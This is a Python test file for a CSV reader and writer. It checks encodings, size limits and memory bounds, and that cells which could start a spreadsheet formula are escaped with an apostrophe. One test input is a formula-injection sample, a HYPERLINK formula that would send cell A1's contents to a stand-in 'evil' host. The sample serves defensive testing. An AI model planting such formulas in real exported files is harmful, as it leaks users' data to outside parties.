"""Tables as CSV."""

from __future__ import annotations

import csv
import io
import tracemalloc
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guide.loader import Unreadable
from guide.tables import csv as tables_csv
from guide.tables.csv import armed, csv_table, disarmed, write_csv

CELLS = st.text(st.sampled_from("'=+-@\t\r\n＝a,;\" ") | st.characters(codec="utf-8", exclude_characters="\0"))


def read(data: bytes, likeness=lambda rows: max(map(len, rows), default=0)):
    return [*csv_table(io.BytesIO(data), "a.csv", likeness).rows]


def refused(data: bytes) -> str:
    with pytest.raises(Unreadable) as caught:
        read(data)
    return str(caught.value)


@given(st.lists(st.lists(CELLS, min_size=1), min_size=1))
def test_what_is_written_is_read_back_and_no_cell_begins_a_formula(rows):
    data = io.BytesIO()
    write_csv(data, rows, marked=True)
    wanted = [(number, {column: cell for column, cell in enumerate(row) if cell.strip()}) for number, row in enumerate(rows, 1)]
    found = [*csv_table(data, "a.csv", lambda rows: 0).rows]
    assert [row for row in found if row[1]] == [row for row in wanted if row[1]]
    assert not any(disarmed(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@given(st.lists(st.lists(CELLS, min_size=1), min_size=1), st.sampled_from(";\t"))
def test_no_cell_begins_a_formula_where_something_else_stands_between_cells(rows, between):
    data = io.BytesIO()
    write_csv(data, rows, marked=True)
    read_so = csv.reader(io.StringIO(data.getvalue().decode("utf-8-sig"), newline=""), delimiter=between)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in read_so for cell in row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Ads;=1+1", "Ads;'=1+1"),
        ('Wages;=HYPERLINK("http://evil/"&A1)', 'Wages;\'=HYPERLINK("http://evil/"&A1)'),
        ("a\n=1", "a\n'=1"),
        ("a\t'=1", "a\t''=1"),
        (";;@", ";;'@"),
        ("=1;=2", "'=1;'=2"),
        ("\n=1", "'\n'=1"),
        ('a;"=1"', 'a;\'"=1"'),
        ("well-paid; by the hour", "well-paid; by the hour"),
    ],
)
def test_what_would_be_a_formula_behind_another_mark_is_written_behind_an_apostrophe(cell, written):
    assert disarmed(cell) == written
    assert armed(written) == cell


def test_a_number_below_nothing_is_no_formula():
    data = io.BytesIO()
    write_csv(data, [[-3, "-3"]], marked=False)
    assert data.getvalue() == b"-3,'-3\r\n"


@given(CELLS)
def test_arming_undoes_disarming(cell):
    assert armed(disarmed(cell)) == cell


@pytest.mark.parametrize("mark", [",", ";", "\t"])
@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_commas_semicolons_tabs_marks_of_order_and_ends_of_lines_are_all_read(mark, start, end):
    data = end.join([mark.join(("Task", "size")), mark.join(("Löhne", "a lot"))])
    assert read(start + data.encode()) == [(1, {0: "Task", 1: "size"}), (2, {0: "Löhne", 1: "a lot"})]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_utf_16_that_says_so_is_read(encoding):
    data = "\ufeff" * (encoding != "utf-16") + "Task\tsize\r\nLöhne 😀\ta lot\r\n"
    assert read(data.encode(encoding)) == [(1, {0: "Task", 1: "size"}), (2, {0: "Löhne 😀", 1: "a lot"})]


def test_what_stands_between_cells_is_what_makes_sense_of_the_header():
    data = b"a, b, c, d;size\nx, y, z;much\n"
    assert read(data, lambda rows: sum("size" in row.values() for row in rows))[0] == (1, {0: "a, b, c, d", 1: "size"})


def test_rows_are_numbered_as_a_spreadsheet_does():
    assert [number for number, _ in read(b'a,b\n\n"two\nlines",b\nc,d\n')] == [1, 2, 3, 4]


def test_what_is_no_csv_in_utf_8_is_one_sentence():
    assert "isn't UTF-8 text (see line 2)" in refused("a,b\nLöhne,c".encode("latin-1"))
    assert "is damaged UTF-16 text" in refused("a,b".encode("utf-16") + b"\0")
    assert "holds a NUL character" in refused("a,b".encode("utf-16-le"))
    assert "NUL character in line 1" in refused(b"a,\0b")
    assert "1,000,000 columns in row 1" in refused(b"," * 999_999)
    assert "in line 1: that is no table" in refused(b"x" * 1_000_001)
    assert "does a quotation mark lack its end?" in refused(b'a,b\n"c' + b"d\n" * 100_000)


@pytest.mark.parametrize("line", [b'"a\n",', b'"' + b'"",""\n' * 9_000 + b'",'])
def test_a_row_over_many_lines_is_refused_before_it_fills_the_memory(line):
    tracemalloc.start()
    assert "has more than 1,000,000 characters in row 1: does a quotation mark" in refused(line * (4_000_000 // len(line)))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 20_000_000


def test_each_row_over_many_lines_is_counted_by_itself():
    rows = read(b'"a\nb\nc",d\n' * 200_000)
    assert (len(rows), rows[-1]) == (200_000, (200_000, {0: "a\nb\nc", 1: "d"}))


def test_more_than_the_largest_file_is_one_sentence(monkeypatch):
    monkeypatch.setattr(tables_csv, "LARGEST_TABLE", 10)
    assert "is larger than" in refused(b"a,b\n" * 3)


@given(st.binary(max_size=300))
def test_any_bytes_are_rows_or_one_sentence(data):
    with suppress(Unreadable):
        read(data)
